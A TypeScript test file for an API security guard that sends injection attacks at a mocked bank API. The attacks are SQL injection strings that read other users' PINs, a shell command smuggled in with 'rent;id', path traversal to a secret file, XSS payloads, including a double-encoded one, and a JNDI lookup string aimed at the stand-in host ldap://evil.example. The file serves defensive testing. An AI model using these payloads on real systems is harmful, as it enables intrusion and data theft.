/** Injection: what a caller writes, and a careless API runs: in its database, its shell, its file system, its pages. */
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import { after } from "node:test";
import { DatabaseSync } from "node:sqlite";
import { attack } from "../attack.ts";
import type { Place, PlaceOptions } from "../place.ts";

/** The bank's contract, but for the pattern that says which letters a title has: where contracts say little, the guard has to look. */
const folder = mkdtempSync(path.join(tmpdir(), "sallyport-injection-"));
const contract = path.join(folder, "openapi.yaml");
const written = readFileSync(path.join(import.meta.dirname, "../../examples/bank/openapi.yaml"), "utf8");
writeFileSync(contract, written.replace("title: { type: string, minLength: 1, maxLength: 80, pattern: \"^[A-Za-z0-9 .,'-]+$\" }", "title: { type: string, minLength: 1, maxLength: 80 }"));
after(() => rmSync(folder, { recursive: true, force: true }));

/** Whose account it is is another question: here it is about what is done with a text. */
const change: NonNullable<PlaceOptions["change"]> = (policy) => {
  const { injection } = policy.operations["updateAccount"] ?? {};
  policy.operations["updateAccount"] = injection === undefined ? {} : { injection };
  policy["contract"] = contract;
};

/** Gives an account a title in these words; `careless` is what the API does with them. */
async function rename(place: Place, title: string, careless: (title: string) => boolean): Promise<boolean> {
  let worked = false;
  place.instead = (request: IncomingMessage, response: ServerResponse) => {
    const chunks: Buffer[] = [];
    request.on("data", (chunk: Buffer) => chunks.push(chunk));
    request.on("end", () => {
      const said = JSON.parse(Buffer.concat(chunks).toString()) as { readonly title: string };
      try {
        worked = careless(said.title);
      } catch {
        worked = false;
      }
      response.writeHead(500).end();
    });
  };
  await place.ask({ as: "cus-1001", method: "PATCH", target: "/accounts/acc-100101", body: { title } });
  return worked;
}

/** A statement put together of texts, as it stands in a thousand programs. */
function query(title: string): readonly unknown[] {
  const database = new DatabaseSync(":memory:");
  database.exec("CREATE TABLE notes (owner TEXT, text TEXT, pin TEXT); INSERT INTO notes VALUES ('ada', 'rent', '1'), ('bob', 'food', '2'), ('eve', 'fun', '3')");
  return database.prepare(`SELECT text, owner, pin FROM notes WHERE owner = 'ada' AND text = '${title}'`).all();
}

const readsAll = (title: string): boolean => query(title).length > 1;
const readsPins = (title: string): boolean => JSON.stringify(query(title)).includes('"2"');

for (const [how, title, worked] of [
  ["a condition that is always true", "x' OR '1'='1", readsAll],
  ["a condition behind a comment", "x'/**/or/**/1=1--", readsAll],
  ["a union with another table", "x' UNION SELECT pin, owner, text FROM notes--", readsPins],
  ["a union in other letters, with other blanks", "x'\tuNiOn\tSeLeCt\tpin,owner,text\tfrom notes --", readsPins],
] as const) {
  attack(`the books of others are read by ${how}`, { waive: ["injection"], change, run: (place) => rename(place, title, worked) });
}

attack("a command is run beside the one that was meant", {
  waive: ["injection"],
  change,
  run: (place) => rename(place, "rent;id", (title) => execFileSync("/bin/sh", ["-c", `echo ${title}`], { encoding: "utf8" }).includes("uid=")),
});

attack("a file outside of the folder is read", {
  waive: ["injection"],
  change,
  run: (place) =>
    rename(place, "../../secret", (title) => {
      mkdirSync(path.join(folder, "a", "b"), { recursive: true });
      writeFileSync(path.join(folder, "secret"), "of the bank");
      return readFileSync(path.join(folder, "a", "b", title), "utf8") === "of the bank";
    }),
});

attack("a script is written into a page that others read", {
  waive: ["injection"],
  change,
  run: (place) => rename(place, "<img src=x onerror=steal()>", (title) => `<li>${title}</li>`.includes("onerror=")),
});

attack("the same script, encoded once more than the door decodes", {
  waive: ["injection"],
  change,
  run: (place) => rename(place, "%3Cimg%20src=x%20onerror=steal()%3E", (title) => `<li>${decodeURIComponent(title)}</li>`.includes("onerror=")),
});

attack("the secrets of a program are asked for by what it logs", {
  waive: ["injection"],
  change,
  run: async (place) => {
    let logged = "";
    place.instead = (request, response) => {
      logged = String(request.headers["user-agent"]).replaceAll(/\$\{(?:\$\{lower:(.)\}|(.))ndi:[^}]*\}/g, "fetched and run");
      response.writeHead(500).end();
    };
    await place.ask({ as: "cus-1001", target: "/accounts", headers: { "user-agent": "Mozilla/5.0 ${${lower:j}ndi:ldap://evil.example/a}" } });
    return logged.includes("fetched and run");
  },
});
